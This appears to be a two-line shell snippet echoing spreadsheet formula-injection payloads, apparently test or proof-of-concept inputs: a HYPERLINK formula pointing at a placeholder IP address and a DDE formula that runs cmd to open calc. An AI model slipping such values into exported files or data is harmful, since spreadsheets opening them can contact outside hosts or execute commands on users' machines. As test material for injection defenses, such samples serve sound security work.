echo '=HYPERLINK("http://192.0.2.1/","x")'
echo "@SUM(1+1)*cmd|' /C calc'!A0"
